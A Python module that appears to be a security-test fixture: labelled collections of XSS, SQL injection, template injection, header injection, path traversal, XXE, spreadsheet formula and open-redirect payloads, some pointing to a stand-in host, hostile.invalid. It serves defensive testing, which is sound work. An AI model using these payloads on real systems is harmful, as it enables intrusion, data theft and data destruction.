"""The hostile pack: strings as a stranger, or a member, might write them, each named by what it
tries. Written by somebody else than who wrote the pages.

Whatever of it runs, calls `ran(…)`; whatever of it loads, asks `ELSEWHERE`; markup of it that gets
into a page is known by its attribute `pack`, or is an element `pack-x`.
"""

from __future__ import annotations

ELSEWHERE = "hostile.invalid"  # no such host, ever (RFC 6761); a request to it is seen all the same
AWAY = f"https://{ELSEWHERE}"

SCRIPT = {
    "a script": "<script pack>ran(1)</script>",
    "a script from elsewhere": f"<script pack src={AWAY}/a.js></script>",
    "a script that closes the words before it": "</title></textarea></style><script pack>ran(2)</script>",
    "a script behind the end of a comment": "--><script pack>ran(3)</script><!--",
    "a script without its bracket at the end": "<script pack>ran(4)//",
    "a script in capital letters and blanks": "<ScRiPt\n\tpack >ran(5)</sCrIpT >",
    "a script within a script's tag": "<scr<script pack>ipt>ran(6)</scr</script>ipt>",
    "a module": f"<script pack type=module>import '{AWAY}/m.js'</script>",
    "an end of a script": "</script><script pack>ran(7)</script>",
    "a script by a string of JSON": '";ran(8);//',
    "a script by a string of one quote": "';ran(9);//",
    "a script by a template of JavaScript": "${ran(10)}`+ran(10)+`",
    "a line separator in JSON": "\u2028ran(11)//\u2029",
    "a script by bytes of UTF-7": "+ADw-script pack+AD4-ran(12)+ADw-/script+AD4-",
    "brackets of full width": "＜script pack＞ran(13)＜/script＞",
    "brackets as entities": "&lt;script pack&gt;ran(14)&lt;/script&gt;",
    "brackets as numbers": "&#60;script pack&#x3e;ran(15)&#60;/script&#62;",
    "brackets that were escaped twice": "&amp;lt;script pack&amp;gt;ran(16)",
}
HANDLERS = {
    "a picture that fails": "<img pack src=x onerror=ran(20)>",
    "a picture in a quote": '"><img pack src=x onerror=ran(21)>',
    "a picture in one quote": "'><img pack src=x onerror=ran(22)>",
    "a handler in an attribute": '" autofocus onfocus=ran(23) pack="',
    "a handler in an attribute of one quote": "' onmouseover='ran(24)' pack='",
    "a handler in an attribute without quotes": "x onpointerenter=ran(25) pack=1",
    "a handler behind a slash": "<svg/pack/onload=ran(26)>",
    "details that open": "<details pack open ontoggle=ran(27)>",
    "an animation of SVG": "<svg pack><animate onbegin=ran(28) attributeName=x dur=1s>",
    "an SVG that holds a script": "<svg pack><script>ran(29)</script></svg>",
    "MathML that leads on": "<math pack><maction actiontype='statusline#' xlink:href='javascript:ran(30)'>x",
    "an element of mutation": '<noscript><p title="</noscript><img pack src=x onerror=ran(31)>">',
    "a form that htmx sends": f'<a pack hx-get="{AWAY}/h" hx-trigger="load">x</a>',
    "a handler of htmx": '<b pack hx-on:load="ran(32)" hx-trigger="load">x</b>',
    "an attribute of htmx alone": '" hx-get="/sign-out" hx-trigger="load" pack="',
}
MARKUP = {
    "a frame": f"<iframe pack src={AWAY}/f srcdoc='<script>parent.ran(40)</script>'></iframe>",
    "an object": f"<object pack data={AWAY}/o></object><embed pack src={AWAY}/e>",
    "another base": f"<base pack href={AWAY}/>",
    "a refresh": f'<meta pack http-equiv=refresh content="0;url={AWAY}/r">',
    "a form that leads away": f"<form pack action={AWAY}/p><input name=password><button>Sign in",
    "a form around what follows": f'<form pack action="{AWAY}/q"><textarea pack>',
    "markup that stays open": "<b pack><i pack><u pack><table pack><tr><td>",
    "a comment that stays open": "<!-- pack",
    "CDATA that ends": "]]><pack-x>&pack;</pack-x>",
    "an entity of XML": '<!DOCTYPE x [<!ENTITY pack SYSTEM "file:///etc/passwd">]>&pack;',
    "an element of its own": "<pack-x pack id=main class=news>x</pack-x>",
    "a link that loads before": f"<link pack rel=preload as=script href={AWAY}/l.js>",
    "a picture that is loaded": f"<img pack src={AWAY}/p.png srcset='{AWAY}/q.png 2x'>",
    "a video that is loaded": f"<video pack poster={AWAY}/v.png autoplay><source src={AWAY}/v>",
    "plain text to the end": "<plaintext pack>",
}
STYLE = {
    "a style": f"<style pack>*{{background:url({AWAY}/s)}}</style>",
    "a style from elsewhere": f"<link pack rel=stylesheet href={AWAY}/s.css>",
    "a style in an attribute": f'" style="position:fixed;inset:0;background:url({AWAY}/t)" pack="',
    "a style that ends a rule": f"}} body {{ background: url({AWAY}/u) }}",
    "an import of a style": f"@import '{AWAY}/i.css';",
    "an expression of old": "width:expression(ran(50))",
}
TEMPLATES = {
    "a template of Jinja": "{{ 7777 * 7 }}{% raw %}",
    "a template that climbs": "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "a format of Python": "{0.__class__.__init__.__globals__} %(x)s %n %s {base}",
    "an end of SQL": "'); DROP TABLE entries; --",
    "words of a search in full text": '" OR kind:* NEAR(a b) ^x* "',
    "a line of a header": "x\r\nSet-Cookie: pack=1\r\nX-Pack: 1\r\n\r\n<script pack>ran(51)</script>",
    "a path that climbs": "../../../../../../etc/passwd",
    "a path that climbs in code": "..%2f..%2f..%2fetc%2fpasswd%00.css",
    "a path of Windows": "..\\..\\..\\windows\\win.ini",
}
FORMULAS = {
    "a formula": f'=HYPERLINK("{AWAY}/c","open")',
    "a formula that starts a program": "=cmd|'/C calc'!A0",
    "a formula by plus": "+1+cmd|'/C calc'!A0",
    "a formula by minus": "-2+3+cmd|'/C calc'!A0",
    "a formula by at": "@SUM(1+1)*cmd|'/C calc'!A0",
    "a formula behind a tab": "\t=1+1",
    "a formula behind a return": "\r=1+1",
    "a formula behind a line's end": "words\n=1+1",
    "a formula in full width": "＝1+1",
    "a formula behind a quote and comma": '","=1+1',
}
UNICODE = {
    "words turned from right to left": "\u202eevil drow\u202e",
    "words forced from left to right": "\u202d\u05d0\u05d1 12",
    "an isolate that stays open": "\u2067open \u2066isolates \u2068here",
    "an isolate that is ended too soon": "\u2069\u2069\u202ethgir morf\u202e",
    "embeddings that stay open": "\u202b\u202b\u202aembedded",
    "letters of two directions": "شارع (Gao) 12 אבג",
    "marks upon marks": "Z" + "\u0300\u0316\u0334" * 60 + "algo",
    "letters that cannot be seen": "in\u200bvis\u200d\u2060ib\ufeffle\u00ad",
    "tags of Unicode": "flag" + "".join(chr(0xE0000 + ord(c)) for c in "pack"),
    "letters that look alike": "Раrаmаrіbо",
    "a character that is none": "no\ufffe\uffff\ufdd0char",
    "controls": "bell\x07 back\x08 escape\x1b[31mred\x1b[0m del\x7f next\x85line",
    "a zero": "ze\x00ro",
    "a word without end": "W" * 3000,
    "an address without end": f"{AWAY}/" + "a" * 1500,
    "emoji of many parts": "👩‍👩‍👧‍👦" * 40,
}
ADDRESSES = {
    "an address of script": "javascript:ran(60)",
    "an address of script in capitals": "JaVaScRiPt:ran(61)",
    "an address of script with a tab": "java\tscript:ran(62)",
    "an address of script with a line's end": "java\nscript:ran(63)",
    "an address of script behind a control": "\x01javascript:ran(64)",
    "an address of script with an entity": "java&#115;cript&colon;ran(65)",
    "an address of script with a host": f"javascript://{ELSEWHERE}/%0aran(66)",
    "an address of data": "data:text/html,<script pack>ran(67)</script>",
    "an address of data in base64": "data:text/html;base64,PHNjcmlwdD5yYW4oNjgpPC9zY3JpcHQ+",
    "an address of VBScript": "vbscript:ran(69)",
    "an address of a file": "file:///etc/passwd",
    "an address that names no scheme": f"//{ELSEWHERE}/x",
    "an address with a back slash": f"/\\{ELSEWHERE}/x",
    "an address with a name before its host": f"https://localhost@{ELSEWHERE}/x",
    "an address with markup": f'{AWAY}/"><img pack src=x onerror=ran(70)>',
    "an address with a handler": f"{AWAY}/' onmouseover='ran(71)' pack='",
    "an address of the place itself": "blob:null/ran",
    "an address of a view": "view-source:javascript:ran(72)",
}
PACK: dict[str, str] = {
    **SCRIPT, **HANDLERS, **MARKUP, **STYLE, **TEMPLATES, **FORMULAS, **UNICODE, **ADDRESSES
}  # fmt: skip
SHORT = [words for words in PACK.values() if len(words) < 400]
assert len(set(PACK.values())) == len(PACK) >= 60

HALF = "half \ud800 of a pair"  # can be written in JSON alone

# Addresses to be led to after signing in, and names of files, that lead out of the desk.
NEXTS = (
    f"https://{ELSEWHERE}/", f"//{ELSEWHERE}/", f"/\\{ELSEWHERE}/", f"\\/{ELSEWHERE}",
    f"/\t/{ELSEWHERE}/", f"/\n/{ELSEWHERE}/", f"///{ELSEWHERE}", "javascript:ran(80)",
    f"http:{ELSEWHERE}", f"/.\\{ELSEWHERE}/", f"\x01//{ELSEWHERE}", "/%0d%0aX-Pack:%201",
    "/x\r\nX-Pack: 1", f"https:/{ELSEWHERE}", f"@{ELSEWHERE}", f".{ELSEWHERE}",
)  # fmt: skip
PATHS = (
    "..%2f..%2f..%2f..%2fetc%2fpasswd", "..%2fapp.py", "%2e%2e/app.py", "..%5capp.py",
    "%2fetc%2fpasswd", "x%00.css", "..", ".", "%2e%2e%2f%2e%2e%2fapp.css", "desk.css%2f..%2fdesk.js",
    "....//app.py", "C:%5cwindows%5cwin.ini", "desk.css%0d%0aX-Pack:1", "a" * 3000 + ".css",
    "%ff%fe.css", "..;/app.py",
)  # fmt: skip
